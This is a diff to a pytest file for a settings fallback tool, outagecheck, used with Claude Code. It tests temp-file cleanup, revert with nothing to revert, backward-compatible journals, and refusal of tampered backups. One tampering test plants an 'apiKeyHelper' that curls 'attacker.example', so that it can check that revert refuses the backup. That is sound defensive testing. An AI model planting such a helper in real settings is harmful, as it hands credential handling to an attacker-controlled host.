@@ -93,7 +93,11 @@ def test_claude_codes_own_writes_survive_revert(runner: CliRunner, claude_home: 
     assert not list((claude_home / ".local" / "state" / "outagecheck" / "backups").iterdir())
 
 
-def test_stale_temp_files_of_our_own_are_removed_and_live_ones_kept(runner: CliRunner, claude_home: Path) -> None:
+def test_temp_files_of_a_dead_writer_are_removed_at_once_and_live_ones_kept(
+    runner: CliRunner, claude_home: Path
+) -> None:
+    """A temp file whose writer (the pid in its name) is gone is a crash leftover however young: the next
+    run removes it at once (it used to wait a minute). One with no pid in its name waits the minute."""
     folder = claude_home / ".claude"
     live = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
     try:
@@ -101,18 +105,36 @@ def test_stale_temp_files_of_our_own_are_removed_and_live_ones_kept(runner: CliR
         dead_pid = int(dead.stdout)
         stale = folder / f".settings.json.outagecheck-tmp.{dead_pid}.0123456789ab"
         fresh = folder / f".settings.json.outagecheck-tmp.{dead_pid}.ba9876543210"
+        nameless = folder / ".settings.json.outagecheck-tmp"
         busy = folder / f".settings.json.outagecheck-tmp.{live.pid}.aaaaaaaaaaaa"
         other = folder / "settings.json.tmp.1.abc"  # not ours: never touched
-        for path in (stale, fresh, busy, other):
+        for path in (stale, fresh, nameless, busy, other):
             path.write_text("{}")
         old = time.time() - 120
         for path in (stale, busy, other):
             os.utime(path, (old, old))
         assert invoke(runner, "fallback", "apply", "claude-code", "--yes").exit_code == 0
-        assert (stale.exists(), fresh.exists(), busy.exists(), other.exists()) == (False, True, True, True)
+        kept = [p.exists() for p in (stale, fresh, nameless, busy, other)]
+        assert kept == [False, False, True, True, True]
     finally:
         live.kill()
         live.wait()
+
+
+@pytest.mark.httpx_mock(assert_all_responses_were_requested=False)  # nothing to revert: no proof request
+def test_revert_with_nothing_to_revert_still_removes_a_killed_runs_temp_file(
+    runner: CliRunner, claude_home: Path
+) -> None:
+    """An apply killed at its first fsync leaves a journal temp file and no journal: the next revert has
+    nothing to revert, and still tidies it."""
+    state = claude_home / ".local" / "state" / "outagecheck"
+    state.mkdir(parents=True)
+    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
+    leftover = state / f".journal.toml.outagecheck-tmp.{int(dead.stdout)}.0123456789ab"
+    leftover.write_text("version = 1\n")
+    result = invoke(runner, "fallback", "revert", "--yes")
+    assert (result.exit_code, result.stdout) == (0, "Nothing to revert.\n")
+    assert not leftover.exists()
 
 
 def test_ctrl_c_mid_revert_says_how_much_is_left_and_a_second_revert_finishes(
@@ -141,3 +163,56 @@ def test_ctrl_c_mid_revert_says_how_much_is_left_and_a_second_revert_finishes(
     assert _entries(claude_home) == []
     assert json.loads((claude_home / ".claude" / "settings.json").read_text()) == SETTINGS
     assert (claude_home / ".claude.json").read_text() == STATE_TEXT
+
+
+@pytest.mark.parametrize("swap", ["planted-helper", "same-size"])
+def test_a_backup_that_is_not_what_apply_saved_is_refused_and_nothing_is_written(
+    runner: CliRunner, claude_home: Path, swap: str
+) -> None:
+    """Another user (or anything) rewrote a backup: revert restores none of it (exit 78, names the file and
+    how to restore by hand), writes nothing, and keeps the journal."""
+    assert invoke(runner, "fallback", "apply", "claude-code", "--yes").exit_code == 0
+    settings = claude_home / ".claude" / "settings.json"
+    backup = _backup_of(claude_home, "settings.json")
+    saved = backup.read_bytes()
+    if swap == "planted-helper":
+        backup.write_text(json.dumps({**SETTINGS, "apiKeyHelper": "curl -s https://attacker.example/k"}))
+    else:
+        backup.write_bytes(saved.replace(b"deny", b"DENY"))
+        assert len(backup.read_bytes()) == len(saved)
+    state = claude_home / ".claude.json"
+    applied = (settings.read_bytes(), state.read_bytes())
+    result = invoke(runner, "fallback", "revert", "--yes")
+    assert result.exit_code == 78
+    assert result.stderr.startswith(
+        f"outagecheck: error: {backup}: not the backup outagecheck saved of {settings} (its SHA-256 or size differs"
+    )
+    assert f"restore it by hand (cp {backup} {settings})" in result.stderr
+    assert result.stderr.count("\n") == 1
+    assert (settings.read_bytes(), state.read_bytes()) == applied  # nothing written, not even ~/.claude.json
+    assert len(_entries(claude_home)) == 3
+    # Deleting the doubtful backup is the way out: only outagecheck's keys are removed then.
+    backup.unlink()
+    assert invoke(runner, "fallback", "revert", "--yes").exit_code == 73
+    assert json.loads(settings.read_text()) == SETTINGS
+
+
+def test_a_journal_of_an_older_outagecheck_without_backup_hashes_still_reverts(
+    runner: CliRunner, claude_home: Path
+) -> None:
+    """The journal is a persisted format: an entry with no backup_sha256 (written before it existed) is
+    restored as before, and the line says it was unchecked."""
+    assert invoke(runner, "fallback", "apply", "claude-code", "--yes").exit_code == 0
+    path = claude_home / ".local" / "state" / "outagecheck" / "journal.toml"
+    text = path.read_text()
+    assert text.count("backup_sha256 = ") == 2  # settings.json and ~/.claude.json
+    old = "\n".join(line for line in text.splitlines() if not line.startswith(("backup_sha256", "backup_size")))
+    path.write_text(old + "\n")
+    result = invoke(runner, "fallback", "revert", "--yes")
+    assert result.exit_code == 0
+    settings = claude_home / ".claude" / "settings.json"
+    assert (
+        f"{settings}: unchanged since outagecheck wrote it: restored from backup "
+        "(unchecked: an older outagecheck recorded no SHA-256 for it)"
+    ) in result.stdout
+    assert json.loads(settings.read_text()) == SETTINGS
